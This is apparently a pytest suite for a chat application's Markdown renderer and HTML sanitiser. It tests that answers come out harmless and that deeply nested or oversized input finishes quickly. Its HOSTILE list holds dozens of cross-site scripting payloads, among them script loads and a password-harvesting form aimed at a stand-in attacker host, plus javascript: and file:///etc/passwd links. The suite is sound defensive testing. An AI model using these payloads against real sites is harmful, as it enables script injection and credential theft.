"""`chat.markdown.rendering.render`: what people see of an answer, and that nothing in one can run or load anything."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.markdown import rendering
from chat.markdown.plain import NOTE, plain
from chat.markdown.rendering import render

pytestmark = pytest.mark.unit

TAGS = rendering._TAGS
ATTRIBUTES = {"href", "rel", "target", "class", "start", "data-language", "tabindex"}
URL = "https://evil.example/x"

HOSTILE = [
    # raw HTML, whole and broken
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src={URL}>",
    f'<img srcset="{URL} 2x">',
    f'<picture><source srcset="{URL}"></picture>',
    "<svg onload=alert(1)>",
    f'<svg><image href="{URL}"/></svg>',
    f'<svg><use href="{URL}#a"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe srcdoc='<script>alert(1)</script>' src={URL}></iframe>",
    f"<object data={URL}></object>",
    f"<embed src={URL}>",
    f'<form action="{URL}"><input name=password><button>Log in</button></form>',
    f'<input type=image src="{URL}" formaction="{URL}">',
    f"<style>@import '{URL}';</style>",
    f'<link rel=stylesheet href="{URL}">',
    f'<link rel=prefetch href="{URL}">',
    f'<base href="{URL}">',
    f'<meta http-equiv=refresh content="0;url={URL}">',
    f'<div style="background:url({URL})">x</div>',
    f'<p style="position:fixed;inset:0" onclick=alert(1)>{URL}</p>',
    f'<video poster="{URL}" autoplay><source src="{URL}"></video>',
    f'<audio src="{URL}" autoplay></audio>',
    f'<body background="{URL}" onload=alert(1)>',
    f'<table background="{URL}"><td background="{URL}">',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://ok.example" onmouseover=alert(1) style=x ping="https://evil.example">x</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x'?>",
    "<dialog open><form method=dialog></dialog>",
    '<button popovertarget=x onclick="alert(1)">x</button>',
    "<custom-element onfocus=alert(1) autofocus tabindex=1>",
    "\x00<script\x00>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:https://evil.example)",
    "[x](/accounts/logout/)",
    "[x](//evil.example/x)",
    "[x](#fragment)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    f"![x]({URL})",
    f'![x]({URL} "t")',
    f"![{URL}]({URL})",
    f"![x][r]\n\n[r]: {URL}",
    f"[![x]({URL})]({URL})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "[r]: javascript:alert(1)\n\n[r]",
    "http://evil.example/\"onmouseover='alert(1)'",
    # code, tables, lists
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "- [x] <script>alert(1)</script>",
    "# <svg/onload=alert(1)>",
    "~~<iframe>~~ **<object>**",
]


class _Reader(HTMLParser):
    """Reads HTML as a browser would and notes what could do harm."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "href" and urlsplit(value or "").scheme not in ("http", "https", "mailto"):
                self.found.append(f"href {value}")
            if name == "rel" and set((value or "").split()) != {"noopener", "noreferrer", "nofollow"}:
                self.found.append(f"rel {value}")
        if tag == "a" and ("target", "_blank") not in attrs:
            self.found.append("a link that replaces the page")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


def test_the_reader_of_these_tests_sees_harm() -> None:
    for html in (
        "<script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<!--x-->",
        "<img>",
        "<a href=https://x.example>",
    ):
        assert read(html).found


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str) -> None:
    assert read(render(text)).found == []
    assert read(render(f"> 1. words\n\n   {text}")).found == []


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_alone_is_enough(text: str) -> None:
    """The second layer must hold if the first ever lets HTML through."""
    found = read(rendering._cleaner.clean(text)).found
    assert found == []


@given(st.text(alphabet=st.sampled_from("<>\"'`[]()!*_~|#- \n\\&;:/=ahjstx"), max_size=80))
@settings(max_examples=300, deadline=None)
def test_any_text_comes_out_harmless(text: str) -> None:
    assert read(render(text)).found == []


def test_images_become_links_that_name_them() -> None:
    assert render("![a cat](https://x.example/cat.png)") == (
        '<p><a href="https://x.example/cat.png" target="_blank" rel="noopener noreferrer nofollow">a cat</a></p>\n'
    )


def test_an_image_inside_a_link_keeps_its_words() -> None:
    html = render("[![badge](https://x.example/b.svg)](https://y.example)")
    assert "badge" in html
    assert "img" not in read(html).tags


def test_code_is_highlighted_and_carries_its_language() -> None:
    html = render("```python\nprint('<hi>')\n```")
    assert html.startswith('<pre class="code" data-language="python"><code><span class="nb">print</span>')
    assert "&lt;hi&gt;" in html


def test_code_of_an_unknown_language_is_kept_to_the_letter() -> None:
    assert "  a\n\n  &lt;b&gt;\n" in render("```nonsuch\n  a\n\n  <b>\n```")


@pytest.mark.parametrize("language", ["python", "javascript", "html", "bash", "json", "sql", "console", "diff"])
def test_highlighting_never_changes_code(language: str) -> None:
    code = "\n\n  $ a <b> & 'c'\n\t\n\n"
    html = render(f"```{language}\n{code}```")
    kept: list[str] = []
    reader = _Reader()
    reader.handle_data = kept.append  # type: ignore[method-assign,assignment]  # collects the text between tags
    reader.feed(html)
    reader.close()
    assert "".join(kept).removesuffix("\n") == code


def test_tables_scroll_and_keep_their_alignment() -> None:
    html = render("|a|b|\n|:-|-:|\n|1|2|")
    assert html.startswith('<div class="table-scroll" tabindex="0"><table>')
    assert '<td class="align-right">2</td>' in html


def test_tasks_are_signs() -> None:
    html = render("- [x] done\n- [ ] open")
    assert '<li class="task-item">☑ done</li>' in html
    assert '<li class="task-item">☐ open</li>' in html


def test_only_what_is_written_as_an_address_becomes_a_link() -> None:
    html = render("see main.py and https://docs.example/a?b=1&c=2")
    assert html.count("<a ") == 1
    assert 'href="https://docs.example/a?b=1&amp;c=2"' in html


def test_the_rest_of_markdown() -> None:
    html = render("# H\n\n~~a~~ **b** *c*\n\n3. x\n\n> q\n\n---\n")
    for piece in (
        "<h1>H</h1>",
        "<s>a</s>",
        "<strong>b</strong>",
        "<em>c</em>",
        '<ol start="3">',
        "<blockquote>",
        "<hr>",
    ):
        assert piece in html


def test_nothing_gives_nothing() -> None:
    assert render("") == ""


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000,
        "> " * 10_000 + "end",
        "- " * 5_000 + "end",
        "".join("  " * i + "- a\n" for i in range(300)) + "end",
    ],
    ids=["quotes", "spaced quotes", "lists", "indented lists"],
)
def test_what_is_nested_too_deep_is_shown_as_written(text: str) -> None:
    html = render(text)
    assert html.startswith('<div class="plain">')
    assert html.count("&gt;") == text.count(">")
    assert ("end" in html) == ("end" in text)


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "*a ",
        "**a **b",
        "](",
        "[a][b",
        "`",
        "<",
        "&",
        "a\n",
        "- a\n\n",
        "|a",
        "http://",
        "`a` ",
        "*_",
        "![](",
        "\n",
    ],
)
def test_hostile_input_takes_bounded_time(unit: str) -> None:
    text = unit * (50_000 // len(unit))
    started = time.process_time()
    assert read(render(text)).found == []
    assert time.process_time() - started < 10  # linear takes under a second; quadratic would take minutes


def test_a_megabyte_is_shown_as_written() -> None:
    html = render("**word** " * 120_000)
    assert html.startswith('<div class="plain">**word** ')


def test_highlighting_stops_at_its_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "HIGHLIGHT_SECONDS", -1)
    assert render("```python\nx = 1\n```") == '<pre class="code" data-language="python"><code>x = 1\n</code></pre>\n'


def test_a_failing_parser_loses_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail() -> None:
        raise RuntimeError

    monkeypatch.setattr(rendering, "_parser", fail)
    assert render("a < b") == f'<div class="plain">a &lt; b</div><p class="plain-note">{NOTE}</p>'


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("![" * 30_000, id="images"),
        pytest.param("(" * 10_000 + "\n" + "[" * 10_000, id="brackets"),
        pytest.param("a\n" * 60_000, id="lines"),
        pytest.param("*a_ " * 40_000, id="emphasis"),
        pytest.param("http://a." * 20_000, id="addresses"),
        pytest.param("://" * 10_000, id="schemes"),
        pytest.param("http://a/(((" * 5_000, id="brackets in addresses"),
        pytest.param("mailto:a" * 5_000, id="mail addresses"),
    ],
)
def test_what_costs_too_much_is_shown_as_written_and_says_so(text: str) -> None:
    started = time.process_time()
    html = render(text)
    assert time.process_time() - started < 2
    assert html == f'{plain(text)}<p class="plain-note">{NOTE}</p>'
    assert plain("a < b\nc") == '<div class="plain">a &lt; b\nc</div>'


@pytest.mark.parametrize(
    ("language", "unit", "times"),
    [("html+ng2", "(", 10_000), ("html+ng2", "(", 20_000), ("html+handlebars", "{{", 10_000)],
)
def test_a_language_whose_lexer_backtracks_is_not_coloured(language: str, unit: str, times: int) -> None:
    started = time.process_time()
    html = render(f"```{language}\n{unit * times}\n```")
    assert time.process_time() - started < 2
    assert html == f'<pre class="code" data-language="{language}"><code>{unit * times}\n</code></pre>\n'


def test_brackets_in_code_do_not_count() -> None:
    assert "plain-note" not in render("```json\n" + "[1, 2],\n" * 9_000 + "```")
